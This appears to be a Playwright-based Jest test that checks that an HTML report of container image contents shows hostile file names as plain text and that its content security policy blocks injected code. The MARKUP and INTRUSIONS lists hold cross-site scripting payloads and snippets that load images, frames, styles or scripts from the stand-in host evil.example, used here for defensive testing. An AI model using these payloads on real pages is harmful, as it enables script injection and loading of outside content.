/** Names that could be markup, scripts or addresses do nothing in the page, and nothing that is put into it runs. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { archiveOf, dockerArchiveFiles, type Entry, filler } from '../../kit/archives/archives.ts';
import { HOSTILE_VALUES } from '../../kit/hostile/hostile-names.ts';
import { launch, openPage, WITHOUT_BROWSER } from '../../kit/pages/browser.ts';
import { pageFolder } from '../../kit/pages/page-folder.ts';
import { scratchFolder } from '../../kit/processes/cli.ts';
import { runInProcess } from '../../kit/processes/cli-in-process.ts';
import { describeOrSkip } from '../../kit/runner/describe-where.ts';

const folder = scratchFolder();
const url = pathToFileURL(join(folder, 'page.html')).href;

/** What else a page could take for markup, a script, an address or the end of what it stands in. */
const MARKUP = [
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
  '<style>@import url(//evil.example)',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0>',
  '<iframe srcdoc=x>',
  '<a href=javascript:alert(1)>',
  'javascript:alert(1)',
  '${alert(1)}',
  '{{constructor}}',
  'constructor',
  ']]>',
  '<!--<script>',
  'url(//evil.example)',
];

/** A tar's name has no slash and no NUL of its own, and a leading `.wh.` would delete. */
const NAMES = [
  ...new Set(
    [...HOSTILE_VALUES, ...MARKUP]
      .map(name => name.replaceAll('/', '\u2215'))
      .filter(
        name => name.trim() !== '' && Buffer.byteLength(name) < 80 && !name.includes('\0') && !name.startsWith('.'),
      ),
  ),
];

const bytesOf = (name: string) => Buffer.from(name).toString('latin1');

function archive(): Buffer {
  const files = (directory: string): Entry[] =>
    NAMES.map((name, at) => ({ name: bytesOf(`${directory}/${name}`), body: filler(10 + at, 'x') }));
  const links = NAMES.map((name, at): Entry => ({ name: `links/${at}`, symlink: bytesOf(name) }));
  const layers = [files('kept'), files('deleted'), [{ name: '.wh.deleted', body: '' }, ...links]];
  const createdBy = layers.map((_, layer) => `RUN ${NAMES.filter((__, at) => at % layers.length === layer).join(' ')}`);
  return archiveOf(dockerArchiveFiles({ layers, createdBy }));
}

/** Brings every row of the tree onto the screen. @returns the names of all rows */
async function allRows(page: Page): Promise<Set<string>> {
  const names = new Set<string>();
  await page.locator('.grid').focus();
  await page.keyboard.press('Home');
  for (let last = ''; ; ) {
    for (const name of await page.locator('.grid-body .name').allTextContents()) names.add(name);
    await page.keyboard.press('PageDown');
    const active = await page.locator('.grid').getAttribute('aria-activedescendant');
    if (active === last) return names;
    last = active ?? '';
  }
}

/** Attempts to have something run or be loaded, each as text that runs in the page. */
const INTRUSIONS: readonly string[] = [
  `new Image().src = 'http://evil.example/x.png'`,
  `document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://evil.example/' }))`,
  `document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://evil.example/' }))`,
  `document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { display: none }' }))`,
  `fetch('http://evil.example/').catch(() => {})`,
  `try { document.body.innerHTML = '<img src=x>' } catch {}`,
  `try { document.body.setAttribute('onclick', 'globalThis.injected = true') } catch {}`,
  `try { document.body.append(Object.assign(document.createElement('script'), { textContent: 'injected = 1' })) } catch {}`,
  `try { document.body.append(Object.assign(document.createElement('script'), { src: 'http://evil.example/' })) } catch {}`,
];

/** What the policy forbade while an intrusion was tried. */
const attempt = (intrusion: string) => `new Promise(resolve => {
  document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective), { once: true });
  setTimeout(resolve, 2000, 'nothing was forbidden');
  ${intrusion};
})`;

describeOrSkip(WITHOUT_BROWSER, `the page of ${NAMES.length} hostile names in a browser`, () => {
  let browser: Browser;
  let page: Page;
  let troubles: string[];

  beforeAll(async () => {
    expect(NAMES.length).toBeGreaterThan(500);
    writeFileSync(join(folder, 'image.tar'), archive());
    const dockerfile = NAMES.map(name => `RUN ${name.replace(/[\r\n\u0085\u2028\u2029\\]/g, ' ')}`).join('\n');
    writeFileSync(join(folder, 'Dockerfile'), `FROM scratch\n${dockerfile}\n`);
    writeFileSync(join(folder, '.imagebudget.yml'), 'version: 1\narchive: image.tar\nbudgets:\n  size: 1 GB\n');
    await runInProcess(['check', '--html', 'page.html'], { cwd: folder, page: await pageFolder() });
    browser = await launch();
    ({ page, troubles } = await openPage(browser, url));
  });

  afterAll(async () => browser?.close());

  test('shows each of them as text', async () => {
    await page.fill('#search', '/kept/*');
    await page.locator('.summary', { hasText: 'shown: ' }).waitFor();
    await page.locator('.grid').focus();
    await page.keyboard.press('Home');
    await page.keyboard.press('ArrowRight');
    const rows = await allRows(page);
    expect(rows.size).toBeGreaterThan(NAMES.length);
    expect([...rows]).toContain('<img src=x onerror=alert(1)>');
  });

  test('makes no element of them, asks for nothing and says nothing', async () => {
    const made = page.locator(
      'img, iframe, svg[onload], base, object, embed, link, [onerror], [onclick], [href^="javascript:" i]',
    );
    expect(await made.count()).toBe(0);
    expect(troubles).toEqual([]);
  });

  test.each(INTRUSIONS)('forbids %s', async intrusion => {
    expect(await page.evaluate(attempt(intrusion))).toMatch(/-src|require-trusted-types-for/);
    expect(await page.evaluate('globalThis.injected')).toBeUndefined();
  });
});
